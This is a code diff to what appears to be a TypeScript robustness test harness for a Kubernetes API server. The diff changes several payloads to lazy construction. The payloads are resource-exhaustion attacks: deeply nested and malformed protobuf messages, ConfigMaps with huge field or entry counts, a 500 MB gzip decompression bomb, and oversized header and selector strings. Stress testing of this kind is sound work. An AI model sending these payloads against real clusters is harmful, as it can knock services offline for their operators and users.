@@ -1,6 +1,6 @@
 /** What comes over the wire and is no good JSON: messages, compressed bodies, headers, and questions about everything. */
 import { gzipSync } from 'node:zlib'
-import { type Attack, CONFIG_MAPS, DEFINITIONS, fieldsOf, many, post } from './attack.js'
+import { type Attack, CONFIG_MAPS, DEFINITIONS, fieldsOf, lazily, many, post } from './attack.js'
 
 const PROTOBUF = 'application/vnd.kubernetes.protobuf'
 
@@ -28,20 +28,20 @@ function nested(levels: number): Buffer {
   }
   return Buffer.concat(heads.reverse())
 }
-const deepDefinition = field(2, field(7, field(4, field(1, nested(100_000)))))
+const deepDefinition = () => field(2, field(7, field(4, field(1, nested(100_000)))))
 const metadata = field(1, field(1, 'message'))
 /** The map of the data has one entry a field. */
 const entries = (count: number) => many(count, (index) => field(2, Buffer.concat([field(1, `k${index}`), field(2, 'v')])))
 
-const MESSAGES: [string, Buffer][] = [
-  [DEFINITIONS, message('apiextensions.k8s.io/v1', 'CustomResourceDefinition', deepDefinition)],
+const messages = lazily((): [string, Buffer][] => [
+  [DEFINITIONS, message('apiextensions.k8s.io/v1', 'CustomResourceDefinition', deepDefinition())],
   [CONFIG_MAPS, message('v1', 'ConfigMap', Buffer.concat([metadata, ...many(40_000, (index) => field(1000 + index, 'x'))]))],
   [CONFIG_MAPS, message('v1', 'ConfigMap', Buffer.concat([metadata, varint(2 * 8 + 2), varint(2 ** 50)]))],
   [CONFIG_MAPS, message('v1', 'ConfigMap', Buffer.concat([metadata, ...entries(300_000 / 10)]))],
   [CONFIG_MAPS, message('v1', 'ConfigMap', Buffer.concat([metadata, ...entries(300_000)]))],
-]
+])
 
-const BOMB = gzipSync(Buffer.alloc(500_000_000, 32), { level: 1 })
+const bomb = lazily(() => gzipSync(Buffer.alloc(500_000_000, 32), { level: 1 }))
 
 const clauses = many(700, (index) => `application/json;as=Table;v=v1;g=g${index};q=0.${index}`).join(',')
 const selector = encodeURIComponent(many(400, (index) => `key${index} in (a,b,c)`).join(','))
@@ -61,14 +61,14 @@ export const wire = {
   protobuf: {
     saying: 'messages of deep nesting, wrong lengths and unknown fields come',
     again: (api, round) => {
-      const [path, body] = inTurn(MESSAGES, round)
+      const [path, body] = inTurn(messages(), round)
       return api.ask(path, { ...post(body), type: PROTOBUF })
     },
     atOnce: 4,
   },
   compressed: {
     saying: 'compressed bodies of 500 MB come',
-    again: (api) => api.ask(CONFIG_MAPS, { ...post(BOMB), headers: { 'Content-Encoding': 'gzip' } }),
+    again: (api) => api.ask(CONFIG_MAPS, { ...post(bomb()), headers: { 'Content-Encoding': 'gzip' } }),
     atOnce: 4,
   },
   headers: {
